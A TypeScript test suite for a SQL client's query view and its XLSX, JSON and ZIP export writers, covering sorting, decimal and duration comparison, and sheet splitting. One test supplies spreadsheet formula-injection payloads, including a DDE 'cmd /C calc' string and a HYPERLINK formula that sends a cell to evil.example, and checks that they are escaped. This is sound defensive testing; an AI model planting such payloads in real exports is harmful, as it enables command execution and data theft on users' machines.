import assert from "node:assert/strict";
import { Buffer } from "node:buffer";
import { BlobReader, TextWriter, ZipReader } from "@zip.js/zip.js";
import { titleOf } from "../../../../src/core/sql/query_window/title.ts";
import { compareDecimals, secondsOf } from "../../../../src/core/sql/query_window/order.ts";
import { createView } from "../../../../src/core/sql/query_window/view.ts";
import type { Column } from "../../../../src/core/sql/driver/mod.ts";
import { jsonLinesWriter, jsonWriter } from "../../../../src/core/sql/export/json.ts";
import { xlsxWriter } from "../../../../src/core/sql/export/xlsx.ts";
import { createZip } from "../../../../src/core/sql/export/zip.ts";
import { createResult, type Result } from "../../../../src/core/sql/spill/mod.ts";
import { testFolder } from "../../../support/folder.ts";
import { rowsOf } from "../../../support/pages/resources.ts";

const column = (name: string, kind: Column["kind"]): Column => ({ name, type: kind, kind, typeNumber: 0 });

/** Returns a row as a driver gives it: all cells in one buffer, and where each begins and ends. */
function packed(cells: readonly (string | null)[]): [Buffer, Int32Array] {
  const bounds = new Int32Array(cells.length * 2).fill(-1);
  let text = "";
  for (const [index, cell] of cells.entries()) {
    if (cell === null) continue;
    bounds[2 * index] = Buffer.byteLength(text);
    text += cell;
    bounds[2 * index + 1] = Buffer.byteLength(text);
  }
  return [Buffer.from(text), bounds];
}

async function resultOf(
  columns: readonly Column[],
  rows: readonly (readonly (string | null)[])[],
): Promise<Result> {
  const place = { folder: await testFolder(), free: () => Promise.resolve(null) };
  const result = createResult(place, columns);
  for (const row of rows) await result.take(...packed(row));
  return result;
}

const sourceOf = ({ read }: Result) => ({ read, subscribe: () => () => {} });

const COLUMNS = [column("n", "decimal"), column("s", "text")];
const ROWS = [["10", "b"], ["9", null], [null, "Apple"], ["9.5", "apple pie"], ["NaN", ""]];
const VIEWS:
  readonly (readonly [name: string, sort: [number, boolean] | null, filter: string, places: number[]])[] = [
    ["numbers as numbers, NULL last", [0, false], "", [1, 3, 0, 4, 2]],
    ["from the greatest down, NULL last", [0, true], "", [4, 0, 3, 1, 2]],
    ["texts whatever their case", [1, false], "", [4, 2, 3, 0, 1]],
    ["rows with a text", null, "APPLE", [2, 3]],
    ["both", [0, true], "9", [3, 1]],
  ];
for (const [name, sort, filter, rowNumbers] of VIEWS) {
  Deno.test(`createView() shows ${name}`, async () => {
    const result = await resultOf(COLUMNS, ROWS);
    const view = createView(sourceOf(result), () => result, COLUMNS, {
      sort: sort && { column: sort[0], descending: sort[1] },
      filter,
    });
    const read = await view.read(0, 10, new AbortController().signal);
    assert.ok(read.ok);
    assert.deepEqual(read.rows.map(({ rowNumber }) => rowNumber), rowNumbers);
    assert.equal(read.total, rowNumbers.length);
    result.close();
  });
}

Deno.test("createView() orders numbers and texts exactly, however long they are", async () => {
  const alike = "x".repeat(3000);
  const rows = [
    ["9007199254740993", `${alike}b`],
    ["9007199254740992", `${alike}a`],
    ["-9007199254740993.10", `${alike}C`],
    ["-9007199254740993.2", "needle"],
    ["0.10000000000000000001", `${alike}needle`],
    ["0.1", null],
  ];
  const result = await resultOf(COLUMNS, rows);
  const rowNumbers = async (sort: [number, boolean] | null, filter = "") => {
    const view = createView(sourceOf(result), () => result, COLUMNS, {
      sort: sort && { column: sort[0], descending: sort[1] },
      filter,
    });
    return (await rowsOf(view, 10)).map(({ rowNumber }) => rowNumber);
  };
  assert.deepEqual(await rowNumbers([0, false]), [3, 2, 5, 4, 1, 0]);
  assert.deepEqual(await rowNumbers([0, true]), [0, 1, 4, 5, 2, 3]);
  assert.deepEqual(await rowNumbers([1, false]), [3, 1, 0, 2, 4, 5]);
  assert.deepEqual(await rowNumbers([1, true]), [4, 2, 0, 1, 3, 5]);
  assert.deepEqual(await rowNumbers(null, "NEEDLE"), [3, 4]);
  result.close();
});

for (const type of ["time", "interval"]) {
  Deno.test(`createView() orders a column of type ${type} by its length of time`, async () => {
    const columns = [{ ...column("t", "time"), type }];
    const rows = [["100:00:00"], ["23:00:00"], ["-01:00:00"], [null], ["-100:00:00"]];
    const result = await resultOf(columns, rows);
    const view = createView(sourceOf(result), () => result, columns, {
      sort: { column: 0, descending: false },
      filter: "",
    });
    assert.deepEqual((await rowsOf(view, 10)).map(({ rowNumber }) => rowNumber), [4, 2, 1, 0, 3]);
    result.close();
  });
}

const DURATIONS: readonly (readonly [text: string, seconds: number])[] = [
  ["-838:59:59.500000", -3_020_399.5],
  ["00:00:00", 0],
  ["3 days", 259_200],
  ["1 mon", 2_592_000],
  ["1 year 2 mons -3 days +04:05:06.7", 36_288_000 - 259_200 + 14_706.7],
  ["-1 years +1 day -00:00:01", -31_104_000 + 86_400 - 1],
  ["-infinity", -Infinity],
  ["soon", NaN],
];
for (const [text, seconds] of DURATIONS) {
  Deno.test(`secondsOf() of ${text} is ${seconds}`, () => assert.equal(secondsOf(text), seconds));
}

const DECIMALS: readonly (readonly [a: string, b: string, order: number])[] = [
  ["1", "2", -1],
  ["10", "9", 1],
  ["-10", "9", -1],
  ["-2", "-10", 1],
  ["1.10", "1.1", 0],
  ["-0", "0.00", 0],
  ["007", "7", 0],
  ["0.09", "0.1", -1],
  [`0.${"0".repeat(1_000_000)}1`, "0", 1],
];
for (const [a, b, order] of DECIMALS) {
  Deno.test(`compareDecimals() of ${a.slice(0, 20)} and ${b} is ${order}`, () =>
    assert.equal(compareDecimals(a, b), order));
}

Deno.test("createView() orders many rows and reads any part of them", async () => {
  const result = await resultOf(
    COLUMNS,
    Array.from({ length: 20_000 }, (_, n) => [String((n * 7919) % 20_000), "x"]),
  );
  const view = createView(sourceOf(result), () => result, COLUMNS, {
    sort: { column: 0, descending: false },
    filter: "",
  });
  const read = await view.read(12_345, 3, new AbortController().signal);
  assert.ok(read.ok);
  assert.deepEqual(read.rows.map(({ cells }) => cells[0]), ["12345", "12346", "12347"]);
  result.close();
});

/** Unpacks the files of a workbook with another library. */
async function unpacked(parts: readonly Uint8Array[]): Promise<Map<string, string>> {
  const reader = new ZipReader(new BlobReader(new Blob(parts as Uint8Array<ArrayBuffer>[])), {
    checkSignature: true,
  });
  const files = new Map<string, string>();
  for (const entry of await reader.getEntries()) {
    if (!entry.directory) files.set(entry.filename, await entry.getData(new TextWriter()));
  }
  await reader.close();
  return files;
}

Deno.test("xlsxWriter() writes a workbook that other readers unpack, exact and bounded", async () => {
  const parts: Uint8Array[] = [];
  const writer = xlsxWriter((bytes) => Promise.resolve(void parts.push(bytes.slice())), 3);
  writer.columns([column("n", "integer"), column("s <&>", "text"), column("b", "boolean")]);
  await writer.row(...packed(["12345678901234567890", "a < b\x00 & c\ud83d\ude00", "t"]));
  await writer.row(...packed(["-42", null, "f"]));
  await writer.row(...packed(["1.5", "", null]));
  writer.columns([column("again", "float")]);
  await writer.row(...packed(["NaN"]));
  await writer.end({ cut: false, ms: 0 });
  await writer.close();
  const files = await unpacked(parts);
  const sheet = (n: number) =>
    files.get(`xl/worksheets/sheet${n}.xml`)!.replace(/^.*<sheetData>|<\/sheetData>.*$/g, "");
  const text = (value: string) => `<c t="inlineStr"><is><t xml:space="preserve">${value}</t></is></c>`;
  const head = `<row>${text("n")}${text("s &lt;&amp;&gt;")}${text("b")}</row>`;
  assert.equal(
    sheet(1),
    `${head}<row>${text("12345678901234567890")}${text("a &lt; b &amp; c😀")}<c t="b"><v>1</v></c></row>` +
      '<row><c><v>-42</v></c><c/><c t="b"><v>0</v></c></row>',
  );
  // Rows that do not fit into a sheet go into the next one, below the same header.
  assert.equal(sheet(2), `${head}<row><c><v>1.5</v></c>${text("")}<c/></row>`);
  assert.equal(sheet(3), `<row>${text("again")}</row><row>${text("NaN")}</row>`);
  assert.match(files.get("xl/workbook.xml")!, /sheetId="3"/);
  assert.equal(files.has("[Content_Types].xml"), true);
});

Deno.test("xlsxWriter() writes ends of lines, and texts that look like codes of characters, as they are", async () => {
  const parts: Uint8Array[] = [];
  const writer = xlsxWriter((bytes) => Promise.resolve(void parts.push(bytes.slice())));
  writer.columns([column("_x0041_", "text")]);
  const cells = ["a\r\nb", "\r", "_x0041_bc", "_x000D_", "_x00e4_x0042_", "_x41_ _X0041_ x0041_ _x004_"];
  for (const cell of cells) await writer.row(...packed([cell]));
  await writer.end({ cut: false, ms: 0 });
  await writer.close();
  assert.equal(writer.loss?.(), null);
  const xml = (await unpacked(parts)).get("xl/worksheets/sheet1.xml")!;
  const written = [...xml.matchAll(/<t [^>]*>([^<]*)</g)].map(([, text]) => text!);
  assert.deepEqual(written.slice(1, 3), ["a_x000D_\nb", "_x000D_"]);
  // Read as a workbook is read: XML turns each line end into \n, then codes become characters.
  const read = written.map((text) =>
    text.replaceAll(/\r\n?/g, "\n").replaceAll(
      /_x([\da-fA-F]{4})_/g,
      (_, code) => String.fromCharCode(parseInt(code, 16)),
    )
  );
  assert.deepEqual(read, ["_x0041_", ...cells]);
});

Deno.test("xlsxWriter() begins another sheet before one is too large for its archive", async () => {
  const parts: Uint8Array[] = [];
  const writer = xlsxWriter((bytes) => Promise.resolve(void parts.push(bytes.slice())), undefined, 1000);
  writer.columns([column("s", "text")]);
  for (let n = 0; n < 9; n++) await writer.row(...packed([`${n}${"é".repeat(200)}`]));
  await writer.end({ cut: false, ms: 0 });
  await writer.close();
  const files = await unpacked(parts);
  const sheets = [...files].filter(([name]) => name.includes("sheets/sheet")).map(([, xml]) =>
    [...xml.matchAll(/<t [^>]*>(.)/g)].map(([, first]) => first).join("")
  );
  assert.deepEqual(sheets, ["s012", "s345", "s678"]);
});

Deno.test("createZip() refuses a file that is larger than an archive can tell", async () => {
  const zip = createZip(() => Promise.resolve(), 1000);
  await zip.begin("a");
  await zip.add("x".repeat(1000));
  await assert.rejects(zip.add("x"), /larger than 4 GB/);
});

Deno.test("xlsxWriter() makes no cell a formula, a link or another part of the file", async () => {
  const begins = ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "'=", "\uff1d", "=1+"];
  const cells = [
    ...begins.map((begin) => `${begin}cmd|' /C calc'!A0`),
    '=HYPERLINK("http://evil.example/"&A1)',
    "http://evil.example/",
    "</t></is></c><c><f>1+1</f></c>",
    "]]><f>1</f>",
    "&#61;1+1",
    "1e5", // left out below, because columns of numbers write it as a number
  ];
  const parts: Uint8Array[] = [];
  const writer = xlsxWriter((bytes) => Promise.resolve(void parts.push(bytes.slice())));
  writer.columns([column("=cmd|' /C calc'!A0", "text"), column("n", "integer"), column("f", "float")]);
  for (const cell of cells.slice(0, -1)) await writer.row(...packed([cell, cell, cell]));
  await writer.end({ cut: false, ms: 0 });
  await writer.close();
  for (const [name, text] of await unpacked(parts)) {
    assert.equal(
      /<f[\s>]|hyperlink|externalLink|oleObject|macro/i.test(text.replace(/<t [^<]*<\/t>/g, "")),
      false,
      name,
    );
    if (!name.includes("sheet1")) continue;
    assert.equal(
      text.match(/<c t="inlineStr"><is><t xml:space="preserve">[^<]*<\/t><\/is><\/c>/g)!.length,
      3 * cells.length,
    );
    assert.equal(text.match(/<c[ >]/g)!.length, 3 * cells.length);
  }
});

Deno.test("xlsxWriter() says what a workbook cannot hold", async () => {
  const writer = xlsxWriter(() => Promise.resolve());
  writer.columns([column("s", "text")]);
  assert.equal(writer.loss?.(), null);
  await writer.row(...packed(["x".repeat(40_000)]));
  await writer.row(...packed(["a\x00b"]));
  await writer.row(Buffer.from([0x61, 0xff]), new Int32Array([0, 2]));
  assert.match(
    writer.loss?.() ?? "",
    /^1 texts are longer than the 32,767 characters[^;]*; characters .* 2 texts\. CSV holds everything\.$/,
  );
  await writer.close();
});

for (const make of [jsonLinesWriter, jsonWriter]) {
  Deno.test(`${make.name}() says where bytes are no text`, async () => {
    const writer = make(() => Promise.resolve());
    writer.columns([column("s", "text")]);
    await writer.row(...packed(["\ufffd is a character too"]));
    assert.equal(writer.loss?.(), null);
    await writer.row(Buffer.from([0x61, 0xff]), new Int32Array([0, 2]));
    assert.match(writer.loss?.() ?? "", /no UTF-8 stand as \ufffd in 1 texts\. CSV holds them\./);
    await writer.close();
  });
}

Deno.test("xlsxWriter() writes a workbook without results", async () => {
  const parts: Uint8Array[] = [];
  const writer = xlsxWriter((bytes) => Promise.resolve(void parts.push(bytes.slice())));
  await writer.close();
  assert.equal((await unpacked(parts)).has("xl/worksheets/sheet1.xml"), true);
});

Deno.test("titleOf() is the beginning of what runs, in one line", () => {
  assert.equal(titleOf("-- why\n/* and\nhow */ select\n  1"), "select 1");
  assert.equal(titleOf("-- only words"), "-- only words");
  assert.equal(titleOf("x".repeat(500)).length, 200);
});
